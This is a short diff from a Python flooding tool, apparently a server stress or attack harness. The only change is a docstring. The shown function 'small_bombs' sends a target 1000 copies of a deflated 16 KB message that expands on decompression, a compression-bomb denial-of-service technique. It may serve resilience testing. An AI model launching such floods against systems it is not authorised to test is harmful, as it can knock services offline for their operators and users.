@@ -109,7 +109,7 @@ def bombs(target, seconds):
 
 
 def small_bombs(target, seconds):
-    """Each just within the limit of a message, as many as will go."""
+    """Each within the size of a message, but four hundred times what it came as."""
     message = b'{"op":"x","id":"' + b"x" * 16000 + b'"}'
     return flood(target, seconds, frame(1, deflated(message), compressed=True) * 1000, fields=DEFLATE)
 
